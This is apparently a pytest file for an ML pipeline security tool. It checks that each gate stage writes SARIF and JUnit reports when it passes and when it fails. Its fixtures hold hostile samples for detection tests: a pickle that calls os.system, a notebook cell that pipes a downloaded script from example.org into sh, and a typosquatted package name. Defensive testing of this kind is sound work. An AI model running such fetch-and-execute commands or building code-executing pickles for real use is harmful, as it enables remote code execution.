"""Every stage writes SARIF and JUnit XML from the command line, with its gate open and with it closed."""

from __future__ import annotations

import json
import os
import pickle
import re
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from xml.etree import ElementTree as ET

import numpy as np
import pandas as pd
import pytest

from lockgate import stage
from lockgate.attest import keys
from lockgate.cli import main

sys.path.insert(0, str(Path(__file__).parents[1] / "report"))

from shapes import SHAPE, hold_against_jenkins

Run = tuple[str, int]  # the words after the stage, and the exit code: 0 for an open gate, 1 for a closed one


def _table(seed: int, rows: int = 800) -> pd.DataFrame:
    random = np.random.default_rng(seed)
    frame = pd.DataFrame(random.normal(size=(rows, 3)).round(4), columns=["a", "b", "c"])
    label = frame.a + random.normal(scale=0.3, size=rows) > 0
    return frame.assign(y=np.where(label, "yes", "no"))


@pytest.fixture(scope="module")
def given(tmp_path_factory) -> Path:
    """A folder with tables, models, keys and documents, good and bad; the tests run in it."""
    from sklearn.linear_model import LogisticRegression

    from lockgate.model import save

    folder = tmp_path_factory.mktemp("given")
    train = _table(0)
    train.to_parquet(folder / "train.parquet")
    _table(1).to_parquet(folder / "test.parquet")
    train.assign(a=train.a + 3).to_parquet(folder / "moved.parquet")
    pd.concat([train, train, train]).to_parquet(folder / "copies.parquet")
    offices = train.assign(office=[f"office {n % 8}" for n in range(len(train))])
    turned = np.where(train.y == "yes", "no", "yes")
    offices.assign(y=train.y.where(offices.office != "office 3", turned)).to_parquet(
        folder / "turned.parquet"
    )
    offices.to_parquet(folder / "offices.parquet")
    model = LogisticRegression().fit(train[["a", "b", "c"]], train.y)
    save(model, folder / "model.skops")
    twin = LogisticRegression(C=1e-4).fit(train[["c", "a", "b"]].set_axis(["a", "b", "c"], axis=1), train.y)
    save(twin, folder / "other.skops")
    (folder / "model.pkl").write_bytes(pickle.dumps({"weights": [1.5, 2.5]}))
    (folder / "evil.pkl").write_bytes(b"cposix\nsystem\n(S'echo'\ntR.")
    (folder / "schema.yaml").write_text("version: 1\ncolumns:\n  a: {type: number, max: 0}\n")
    for name, code in (("good", "x = 1\n"), ("bad", "!curl http://example.org/x.sh | sh\n")):
        cell = {"cell_type": "code", "metadata": {}, "execution_count": None, "outputs": [], "source": code}
        notebook = {"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": [cell]}
        (folder / f"{name}.ipynb").write_text(json.dumps(notebook))
    (folder / "pinned.txt").write_text("requests==2.32.0\n")
    (folder / "loose.txt").write_text("requests>=2\nreqeusts==1.0\n")
    (folder / "card.yaml").write_text("name: employment\nversion: '1'\n")
    (folder / "lock.txt").write_text(f"numpy==1.26.4 --hash=sha256:{'a' * 64}\n")
    keys.generate("signer", folder, None)
    keys.generate("stranger", folder, None)
    return folder


# --- How each stage is run --------------------------------------------------------------------------


class Here:
    """Where a stage is run: what it may ask pytest for, and the flags of a team that approves of things."""

    def __init__(self, request: pytest.FixtureRequest, folder: Path) -> None:
        self.request, self.folder = request, folder

    @property
    def team(self):
        return self.request.getfixturevalue("team")

    def flags(self) -> str:
        set_ = self.team.settings
        return (
            f"--key {set_.key} --policy {set_.policy} --policy-key {set_.policy_key}"
            f" --evidence {set_.evidence} --ledger {set_.ledger} --trust-state {set_.trust_state}"
        )

    def did(self, words: str) -> Path:
        """Run a stage that another one needs the result of."""
        out = self.folder / f"before-{len(list(self.folder.iterdir()))}"
        assert main([*words.split(), "--out", str(out)]) == 0, words
        return out


def _signed(here: Here) -> str:
    return str(here.did("sign-artifact --artifact model.skops --key signer.key.pem") / "attestation.json")


def _verified(here: Here) -> Iterator[Run]:
    signed = _signed(here)
    yield f"--artifact model.skops --attestation {signed} --key signer.pub.pem", 0
    yield f"--artifact other.skops --attestation {signed} --key stranger.pub.pem", 1


def _passed(here: Here) -> Iterator[Run]:
    signed = _signed(here)
    yield f"--attestations {signed} --key signer.pub.pem --verdicts PASS WARN", 0
    yield f"--attestations {signed} --key stranger.pub.pem --verdicts PASS FAIL", 1


def _recorded(here: Here) -> Iterator[Run]:
    words = "--products model.skops --materials train.parquet --environment-lock lock.txt"
    yield f"{words} --key signer.key.pem --code-revision {'c' * 40}", 0
    yield f"{words} --key signer.key.pem --need-code --need-step", 1


def _audited(here: Here) -> Iterator[Run]:
    flaw = {
        "id": "GHSA-aaaa-bbbb-cccc",
        "modified": "2026-01-01T00:00:00Z",
        "affected": [
            {
                "package": {"ecosystem": "PyPI", "name": "idna"},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "3.7"}]}],
            }
        ],
    }
    (here.folder / "database").mkdir()
    (here.folder / "database" / "one.json").write_text(json.dumps(flaw))
    words = f"--advisories {here.folder / 'database'} --min-advisories 1 --max-database-age 99999"
    yield f"--requirements pinned.txt {words}", 0
    yield f"--requirements loose.txt {words}", 1


def _composed(here: Here) -> Iterator[Run]:
    yield "--model model.skops --card card.yaml --lock lock.txt", 0
    yield "--model model.skops --spdx --need-card --need-provenance", 1


def _matched(here: Here) -> Iterator[Run]:
    told = here.folder / "print.json"
    here.did(f"test-extraction {STOLEN} --max-fidelity 1 --fingerprint {told} --key signer.key.pem")
    yield f"--model other.skops --fingerprint {told} --key signer.pub.pem", 0
    yield f"--model model.skops --fingerprint {told} --key signer.pub.pem", 1


def _released(here: Here) -> Iterator[Run]:
    yield f"--subject {here.team.approved('one')} {here.flags()}", 0
    yield f"--subject {here.team.model('two')} {here.flags()}", 1


def _promoted(here: Here) -> Iterator[Run]:
    words = f"{_registry(here)} {here.flags()}"
    yield f"--model {here.team.approved('one')} {words}", 0
    yield f"--model {here.team.model('two')} {words}", 1


def _rolled_back(here: Here) -> Iterator[Run]:
    words = f"{_registry(here)} {here.flags()}"
    for name in ("one", "two"):
        here.did(f"promote-model --model {here.team.approved(name)} {words}")
    yield f"--reason complaints {words}", 0
    yield f"--reason complaints {words}", 1  # nothing is left to go back to


def _registry(here: Here) -> str:
    server = here.request.getfixturevalue("mlflow_server")
    return f"--registered-model every-{here.folder.name} --tracking-uri {server.url}"


def _plain(*words: str) -> Callable[[Here], list[Run]]:
    """The words that open a gate, and those that close it."""
    return lambda _: list(zip(words, (0, 1), strict=False))


MODEL = "--model model.skops --label y"
ROBUST = f"{MODEL} --data test.parquet --attack-rows 100 --perturbed-rows 100 --precision 0.2"
PRIVATE = f"{MODEL} --train train.parquet --test test.parquet --shadows 4"
STOLEN = f"{MODEL} --data test.parquet --query-budget 40 --held-rows 100 --references 10"
TABLE = "--data train.parquet"
SPLIT = "--label y --train train.parquet --test"
POISONED = "--label y --source office --no-canary --train"
DRIFT = "--reference train.parquet --current"
BATCH = "--label y --source office --reference offices.parquet --current"
RUNS: dict[str, Callable[[Here], Iterator[Run] | list[Run]]] = {
    "check-integrity": _plain(TABLE, "--data copies.parquet --enforce duplicates"),
    "detect-poisoning": _plain(f"{POISONED} offices.parquet", f"{POISONED} turned.parquet"),
    "validate-data": _plain(
        f"{TABLE} --baseline test.parquet --max-outside-baseline 1", f"{TABLE} --schema schema.yaml"
    ),
    "verify-artifact": _verified,
    "check-split": _plain(f"{SPLIT} test.parquet", f"{SPLIT} copies.parquet --enforce sample-leakage"),
    "record-provenance": _recorded,
    "scan-notebook": _plain("--notebook good.ipynb", "--notebook bad.ipynb"),
    "match-fingerprint": _matched,
    "test-extraction": _plain(f"{STOLEN} --max-fidelity 1", f"{STOLEN} --max-fidelity 0"),
    "test-privacy": _plain(f"{PRIVATE} --max-tpr-at-1pct-fpr 0.9", f"{PRIVATE} --max-tpr-at-1pct-fpr 0"),
    "test-robustness": _plain(f"{ROBUST} --eps 0.01 --max-crashes 99", f"{ROBUST} --eps 9"),
    "audit-dependencies": _audited,
    "build-bom": _composed,
    "promote-model": _promoted,
    "scan-model": _plain("--model model.pkl", "--model evil.pkl"),
    "sign-artifact": _plain("--artifact train.parquet --key signer.key.pem"),
    "gate-release": _released,
    "require-pass": _passed,
    "rollback-model": _rolled_back,
    "check-drift": _plain(f"{DRIFT} test.parquet", f"{DRIFT} moved.parquet"),
    "gate-retraining": _plain(f"{BATCH} offices.parquet", f"{BATCH} turned.parquet"),
    "profile-data": _plain(TABLE),
}
NEVER_CLOSES = {"sign-artifact", "profile-data"}  # they make something; bad input is no verdict
NEED_MLFLOW = {"promote-model", "rollback-model"}


def _marked(name: str):
    marks = [pytest.mark.slow, pytest.mark.xdist_group("mlflow")] if name in NEED_MLFLOW else []
    return pytest.param(name, marks=marks)


@pytest.mark.parametrize("name", [_marked(name) for name in sorted(stage.names())])
def test_a_stage_writes_both_files_open_and_closed(name, given, tmp_path, monkeypatch, request, capsys):
    assert name in RUNS, f"{name} is new here: say in RUNS how to open and to close its gate"
    monkeypatch.chdir(given)
    for variable in [key for key in os.environ if key.startswith("LOCKGATE_")]:
        monkeypatch.delenv(variable)
    codes = []
    for number, (words, code) in enumerate(RUNS[name](Here(request, tmp_path))):
        codes.append(code)
        out = tmp_path / f"out-{number}"
        files = {"--sarif": tmp_path / f"{number}.sarif", "--junit": tmp_path / f"{number}.xml"}
        extra = [str(word) for pair in files.items() for word in pair]
        assert main([name, *words.split(), "--out", str(out), *extra]) == code, capsys.readouterr()
        document = json.loads((out / "result.json").read_text())
        _hold_sarif(json.loads(files["--sarif"].read_text()), document, opens=not code)
        _hold_junit(files["--junit"].read_bytes(), document, opens=not code)
    assert codes == ([0] if name in NEVER_CLOSES else [0, 1])


def test_every_way_to_run_a_stage_is_of_a_stage_that_exists():
    assert set(RUNS) == set(stage.names())
    assert set(RUNS) > NEVER_CLOSES


def _hold_sarif(log: dict, document: dict, *, opens: bool) -> None:
    SHAPE.validate(log)
    (run,) = log["runs"]
    assert run["automationDetails"]["id"].startswith(f"lockgate/{document['stage']}/")
    rules = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    assert {finding["rule"] for finding in document["findings"]} <= set(rules)
    assert all(rules[result["ruleIndex"]] == result["ruleId"] for result in run["results"])
    shown = [r for r in run["results"] if r["level"] in ("warning", "error") and "suppressions" not in r]
    assert opens or shown


def _hold_junit(written: bytes, document: dict, *, opens: bool) -> None:
    root = ET.fromstring(written)  # noqa: S314 - our own
    hold_against_jenkins(root)
    (suite,) = root
    said = {entry.get("name"): entry.get("value") for entry in suite.find("properties")}
    assert (said["verdict"], said["body_digest"]) == (document["verdict"], document["body_digest"])
    cases = suite.findall("testcase")
    assert {case.get("classname") for case in cases} == {f"lockgate.{document['stage']}"}
    assert int(suite.get("tests")) == len(cases) >= max(1, len(document["checks"]))
    stopped = [case for case in cases if case.find("failure") is not None or case.find("error") is not None]
    assert (not stopped) is opens
    assert int(suite.get("failures")) + int(suite.get("errors")) == len(stopped)
    assert not re.search(rb"[\x00-\x08]", written)
